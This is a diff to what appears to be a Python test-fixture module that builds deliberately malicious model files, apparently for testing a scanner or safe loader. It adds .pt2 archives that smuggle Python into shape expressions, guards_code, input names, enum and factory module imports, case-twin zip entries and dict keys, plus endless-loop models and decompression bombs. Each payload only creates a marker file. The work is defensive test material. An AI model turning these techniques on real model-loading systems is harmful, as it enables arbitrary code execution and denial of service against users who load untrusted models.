@@ -142,6 +142,157 @@ def pt2_payload_in_opaque_constant(src: Path, dst: Path, marker: Path) -> Path:
                         {"data/constants/opaque_obj_0": pickle.dumps(Touch(marker))})
 
 
+# ---------------------------------------------------------------- .pt2: strings torch turns into code
+
+# Run by every payload below; relative, so it creates `ran` in the folder the loader runs in.
+TOUCH = "__import__('pathlib').Path('ran').touch()"
+
+
+def pt2_model_json(path: Path) -> dict:
+    """The exported program (models/model.json) of a .pt2 archive, as JSON."""
+    with zipfile.ZipFile(path) as z:
+        return json.loads(z.read(next(n for n in z.namelist() if n.endswith("/models/model.json"))))
+
+
+def _edit_pt2_model(src: Path, dst: Path, edit) -> Path:
+    """Copy a .pt2 archive, its models/model.json changed in place by `edit(doc)`."""
+    doc = pt2_model_json(src)
+    edit(doc)
+    return _rewrite_zip(src, dst, {"/models/model.json": json.dumps(doc).encode()})
+
+
+def _user_input(doc: dict) -> str:
+    specs = doc["graph_module"]["signature"]["input_specs"]
+    return next(s["user_input"]["arg"]["as_tensor"]["name"] for s in specs if "user_input" in s)
+
+
+def _shape_expression_payload(doc: dict) -> None:
+    size = {"as_expr": {"expr_str": f"{TOUCH} or 1", "hint": {"as_int": 1}}}
+    doc["graph_module"]["graph"]["tensor_values"][_user_input(doc)]["sizes"][0] = size
+
+
+def pt2_payload_in_shape_expression(src: Path, dst: Path) -> Path:
+    """An input size whose expression string torch hands to sympy.sympify, which evaluates Python."""
+    return _edit_pt2_model(src, dst, _shape_expression_payload)
+
+
+def pt2_payload_in_guards_code(src: Path, dst: Path) -> Path:
+    """guards_code: Python source torch execs when it builds the module."""
+    return _edit_pt2_model(src, dst, lambda doc: doc.update(guards_code=[f"{TOUCH} is None"]))
+
+
+def pt2_payload_in_graph_name(src: Path, dst: Path) -> Path:
+    """The input's name, which torch writes into the source of forward(): a default argument runs."""
+    def edit(doc):
+        old, new = _user_input(doc), f"input={TOUCH}"
+        text = json.dumps(doc).replace(json.dumps({"name": old}), json.dumps({"name": new}))
+        doc.update(json.loads(text))
+        values = doc["graph_module"]["graph"]["tensor_values"]
+        values[new] = values.pop(old)
+    return _edit_pt2_model(src, dst, edit)
+
+
+def pt2_payload_in_enum_reference(src: Path, dst: Path) -> Path:
+    """An in_spec dict keyed by an enum: torch imports its module, evil_keys.py placed beside `dst`."""
+    def edit(doc):
+        signature = doc["graph_module"]["module_call_graph"][0]["signature"]
+        protocol, spec = json.loads(signature["in_spec"])
+        kwargs = spec["children_spec"][1]
+        kwargs["context"] = json.dumps([{"__enum__": True, "fqn": "evil_keys:Key", "name": "A"}])
+        kwargs["children_spec"] = [{"type": None, "context": None, "children_spec": []}]
+        signature["in_spec"] = json.dumps([protocol, spec])
+    (dst.parent / "evil_keys.py").write_text(f"import enum\n{TOUCH}\nKey = enum.Enum('Key', 'A')\n")
+    return _edit_pt2_model(src, dst, edit)
+
+
+def pt2_payload_in_defaultdict_factory(src: Path, dst: Path) -> Path:
+    """An out_spec defaultdict: torch imports its factory's module, evil_factory.py placed beside `dst`."""
+    def edit(doc):
+        signature = doc["graph_module"]["module_call_graph"][0]["signature"]
+        context = {"default_factory_module": "evil_factory", "default_factory_name": "make", "dict_context": []}
+        signature["out_spec"] = json.dumps([1, {"type": "collections.defaultdict", "context": context,
+                                                "children_spec": []}])
+    (dst.parent / "evil_factory.py").write_text(f"{TOUCH}\nmake = list\n")
+    return _edit_pt2_model(src, dst, edit)
+
+
+def pt2_payload_behind_case_twin(src: Path, dst: Path) -> Path:
+    """An opaque (plainly pickled) constant declared in DATA/CONSTANTS/..., an entry that Python's
+    zipfile keeps apart from data/constants/... but torch's zip reader finds under the lower-case name."""
+    config = {"config": {"evil": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
+                                  "tensor_meta": None}}}
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
+        root = zin.namelist()[0].split("/", 1)[0]
+        for item in zin.infolist():
+            if item.filename.endswith("data/constants/model_constants_config.json"):
+                zout.writestr(f"{root}/DATA/CONSTANTS/model_constants_config.json", json.dumps(config))
+            zout.writestr(item, zin.read(item.filename))
+        zout.writestr(f"{root}/DATA/CONSTANTS/OPAQUE_OBJ_0", pickle.dumps(Touch(Path("ran"))))
+    return dst
+
+
+def pt2_legacy(dst: Path, edit=None) -> Path:
+    """Linear(4, 2) in the layout before torch 2.7 (torch.export.load still falls back to it)."""
+    import torch
+    from torch._export.serde.serialize import serialize
+
+    module, example = linear()
+    artifact = serialize(torch.export.export(module, (example,)))
+    doc = json.loads(artifact.exported_program)
+    if edit:
+        edit(doc)
+    with zipfile.ZipFile(dst, "w") as z:
+        z.writestr("version", ".".join(map(str, doc["schema_version"].values())))
+        z.writestr("serialized_exported_program.json", json.dumps(doc))
+        z.writestr("serialized_state_dict.pt", artifact.state_dict)
+        z.writestr("serialized_constants.pt", artifact.constants)
+        z.writestr("serialized_example_inputs.pt", artifact.example_inputs)
+    return dst
+
+
+def pt2_legacy_payload_in_shape_expression(dst: Path) -> Path:
+    return pt2_legacy(dst, _shape_expression_payload)
+
+
+def dict_input_model():
+    """A model whose input is a dict of tensors (its example inputs keep the dict's keys)."""
+    import torch
+
+    class Model(torch.nn.Module):
+        def forward(self, inputs):
+            return inputs["x"] * 2
+
+    return Model(), ({"x": torch.ones(2, 3)},)
+
+
+def pt2_payload_in_example_input_key(dst: Path) -> Path:
+    """Example inputs (a weights-only pickle) with a dict key that torch copies into its guard code."""
+    import torch
+
+    plain = dst.with_name("dict_input.pt2")
+    module, example = dict_input_model()
+    torch.export.save(torch.export.export(module, example), str(plain))
+    key = '"+str(__import__("pathlib").Path("ran").touch())+"'
+    buffer = io.BytesIO()
+    torch.save((({key: torch.ones(2, 3)},), {}), buffer)
+    return _rewrite_zip(plain, dst, {"data/sample_inputs/model.pt": buffer.getvalue()})
+
+
+def pt2_dynamic(path: Path) -> Path:
+    """A legitimate archive with dynamic shapes: symbols, derived dimensions, range constraints, guards."""
+    import torch
+
+    class Model(torch.nn.Module):
+        def forward(self, x, y, z):
+            return x * 2, y[:, 1:] + x, z.sum() + x.shape[1] // 2
+
+    batch, width = torch.export.Dim("batch", min=1, max=64), torch.export.Dim("width", min=5, max=32)
+    example = (torch.randn(4, 8), torch.randn(4, 9), torch.randn(4, 14))
+    shapes = {"x": {0: batch, 1: width}, "y": {0: batch, 1: width + 1}, "z": {0: batch, 1: 2 * width - 2}}
+    torch.export.save(torch.export.export(Model(), example, dynamic_shapes=shapes), str(path))
+    return path
+
+
 # ---------------------------------------------------------------- ONNX
 
 def onnx_model(path: Path, external: str | None = None):
@@ -219,4 +370,96 @@ def hf_pickled_weights_folder(path: Path, marker: Path) -> Path:
                                                   "architectures": ["BertModel"]}))
     torch.save({"bert.embeddings.word_embeddings.weight": torch.zeros(30, 8), "x": Touch(marker)},
                path / "pytorch_model.bin")
+    return path
+
+
+# ---------------------------------------------------------------- models that never finish
+
+def onnx_endless_loop(path: Path) -> Path:
+    """y = x after an ONNX `Loop` of 2**62 iterations whose body does nothing: it never returns."""
+    import onnx
+    from onnx import TensorProto, helper
+
+    body = helper.make_graph(
+        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Identity", ["v_in"], ["v_out"])],
+        "body",
+        [helper.make_tensor_value_info("i", TensorProto.INT64, []),
+         helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
+         helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [1, 4])],
+        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
+         helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [1, 4])])
+    graph = helper.make_graph(
+        [helper.make_node("Constant", [], ["trips"], value=helper.make_tensor("t", TensorProto.INT64, [], [2**62])),
+         helper.make_node("Constant", [], ["cond"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True])),
+         helper.make_node("Loop", ["trips", "cond", "x"], ["y"], body=body)],
+        "endless",
+        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
+        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])])
+    proto = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
+    proto.ir_version = 8
+    onnx.save(proto, str(path))
+    return path
+
+
+def torchscript_endless(path: Path) -> Path:
+    """A TorchScript archive whose forward loops until its input sums to 1e30, which never happens."""
+    import torch
+
+    class Endless(torch.nn.Module):
+        def forward(self, x: torch.Tensor) -> torch.Tensor:
+            while bool(x.abs().sum() < 1e30):
+                x = x * 1.0
+            return x
+
+    torch.jit.save(torch.jit.script(Endless()), str(path))
+    return path
+
+
+# ---------------------------------------------------------------- decompression bombs
+
+BOMB_ELEMENTS = 200 * 2**20  # float32 zeros: 800 MiB once decompressed, under 4 MB compressed
+
+
+def _npy_header(elements: int) -> bytes:
+    header = io.BytesIO()
+    np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False, "shape": (elements,)})
+    return header.getvalue()
+
+
+def _write_zeros(stream, nbytes: int) -> None:
+    chunk = bytes(2**24)
+    for start in range(0, nbytes, len(chunk)):
+        stream.write(chunk[:min(len(chunk), nbytes - start)])
+
+
+def npz_bomb(path: Path, elements: int = BOMB_ELEMENTS) -> Path:
+    """An .npz holding one float32 array of `elements` zeros, deflated (level 1: fast to make)."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
+        with archive.open("x.npy", "w") as member:
+            member.write(_npy_header(elements))
+            _write_zeros(member, 4 * elements)
+    return path
+
+
+def pt_bomb(path: Path, elements: int = BOMB_ELEMENTS) -> Path:
+    """torch.save of a float32 tensor of `elements` zeros, with its storage record deflated.
+
+    Made from the archive of a small tensor: its pickle is patched to declare `elements`.
+    """
+    import struct
+
+    import torch
+
+    small, count = io.BytesIO(), 70_001  # a count that the pickle holds as a 4-byte BININT, twice
+    torch.save(torch.zeros(count), small)
+    with zipfile.ZipFile(small) as original, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
+        for info in original.infolist():
+            if info.filename.endswith("/data/0"):
+                with out.open(info.filename, "w") as member:
+                    _write_zeros(member, 4 * elements)
+                continue
+            data = original.read(info)
+            if info.filename.endswith("/data.pkl"):
+                data = data.replace(b"J" + struct.pack("<i", count), b"J" + struct.pack("<i", elements))
+            out.writestr(info.filename, data)
     return path
